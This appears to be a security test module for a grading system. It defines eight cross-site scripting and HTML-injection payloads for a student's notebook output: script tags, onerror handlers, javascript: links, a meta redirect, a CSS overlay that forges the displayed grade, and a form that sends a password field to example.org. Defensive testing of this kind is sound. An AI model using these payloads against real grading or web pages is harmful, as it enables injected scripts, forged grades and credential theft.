"""The page that shows the grade runs a student's script."""

from __future__ import annotations

from tests.attacks.attack import Attack

FAMILY = "scripts in feedback"


_ALERT = "alert('mark-@ATTACK@')"


def _displays(name: str, what: str, markup: str, *, mime: str = "text/html") -> Attack:
    return Attack(
        name,
        FAMILY,
        f"Displays {what}.",
        "script",
        (("active-content", "displayed"),),
        before=f"from IPython.display import display\n\ndisplay({{{mime!r}: {markup!r}}}, raw=True)",
    )


def _says(name: str, what: str, markup: str) -> Attack:
    return Attack(
        name,
        FAMILY,
        f"Writes a text with {what}.",
        "script",
        (("active-content", "said"),),
        text=markup,
    )


ATTACKS = (
    _displays("script-element", "HTML with a script element", f"<script>{_ALERT}</script>"),
    _displays(
        "event-handler", "an image whose error handler runs", f'<img src="x" onerror="{_ALERT}">'
    ),
    _displays(
        "javascript-output",
        "an output of the type JavaScript",
        _ALERT,
        mime="application/javascript",
    ),
    _displays(
        "frame",
        "a frame with a page of its own inside",
        f'<iframe srcdoc="<script>{_ALERT}</script>"></iframe>',
    ),
    _displays(
        "other-page",
        "an order to load another page",
        '<meta http-equiv="refresh" content="0; url=https://example.org/mark-@ATTACK@">',
    ),
    _displays(
        "style-that-covers",
        "a style sheet that hides the grade and draws another",
        "<style>.panel-body { display: none } body::before { content: 'mark-@ATTACK@ 22/22' }</style>",
    ),
    _says(
        "link-that-runs",
        "a link that runs a script",
        f'[the solution](javascript:{_ALERT} "x") <a href="javascript:{_ALERT}">more</a>',
    ),
    _says(
        "form",
        "a form that sends what one types elsewhere",
        '<form action="https://example.org/mark-@ATTACK@"><input name="password"></form>',
    ),
)
